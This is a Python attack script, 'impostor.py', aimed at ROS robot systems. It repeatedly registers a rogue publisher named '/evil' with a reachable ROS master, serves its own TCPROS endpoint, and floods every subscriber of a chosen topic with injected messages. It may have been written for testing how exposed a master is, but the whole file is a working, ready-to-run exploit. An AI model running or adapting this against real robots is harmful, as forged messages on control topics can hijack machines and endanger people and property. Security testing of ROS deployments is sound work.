"""Command a robot's subscribers at a ROS master that ought not to be reachable, from the first moment that it is.

    python3 impostor.py MASTER_HOST MASTER_PORT OWN_ADDRESS TOPIC

Registers a publisher over and over, over new and over kept connections, and sends `evil N` to each subscriber. The
events are `registered`, with the kind of connection, and `connected`.
"""

import http.client
import itertools
import json
import re
import socket
import struct
import sys
import threading
import xmlrpc.client
from xmlrpc.server import SimpleXMLRPCServer

_MD5SUM = "992ce8a1687cec8c8bd883ec73ca41d1"  # std_msgs/String
_PAUSE_SECONDS = 0.005


def _say(**event: object) -> None:
    print(json.dumps(event), flush=True)  # noqa: T201  its result


def _field(text: str) -> bytes:
    return struct.pack("<I", len(text)) + text.encode()


def _command(connection: socket.socket, topic: str) -> None:
    head = b"".join(
        map(_field, (f"topic={topic}", "type=std_msgs/String", f"md5sum={_MD5SUM}", "callerid=/evil"))
    )
    _say(event="connected")
    pause = threading.Event()
    try:
        connection.recv(65536)
        connection.sendall(struct.pack("<I", len(head)) + head)
        for number in itertools.count():
            text = _field(f"evil {number}")
            connection.sendall(struct.pack("<I", len(text)) + text)
            pause.wait(0.01)
    except OSError:
        connection.close()


def _serve(server: socket.socket, topic: str) -> None:
    while True:
        threading.Thread(target=_command, args=(server.accept()[0], topic), daemon=True).start()


def _register(connection: http.client.HTTPConnection, uri: str, topic: str) -> bool:
    body = xmlrpc.client.dumps(("/evil", topic, "std_msgs/String", uri), "registerPublisher")
    connection.request("POST", "/RPC2", body, {"Content-Type": "text/xml"})
    code = re.search(rb"<(?:int|i4)>(-?\d+)<", connection.getresponse().read())
    return code is not None and int(code[1]) == 1


def main() -> None:
    host, port, own, topic = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    data = socket.create_server((own, 0))
    threading.Thread(target=_serve, args=(data, topic), daemon=True).start()
    api = SimpleXMLRPCServer((own, 0), logRequests=False, allow_none=True)
    api.register_function(lambda *_: [1, "", ["TCPROS", own, data.getsockname()[1]]], "requestTopic")
    api.register_function(lambda *_: [1, "", 1], "getPid")
    threading.Thread(target=api.serve_forever, daemon=True).start()
    uri = f"http://{own}:{api.server_address[1]}/"
    pause = threading.Event()
    kept: http.client.HTTPConnection | None = None
    _say(event="ready")
    while True:
        for connection in filter(None, (kept, http.client.HTTPConnection(host, port, timeout=0.5))):
            try:
                accepted = _register(connection, uri, topic)
            except (OSError, http.client.HTTPException):
                connection.close()
                kept = None if connection is kept else kept
            else:
                if accepted:
                    _say(event="registered", how="kept" if connection is kept else "new")
                    kept = connection
                elif connection is not kept:
                    connection.close()
        pause.wait(_PAUSE_SECONDS)


if __name__ == "__main__":
    main()
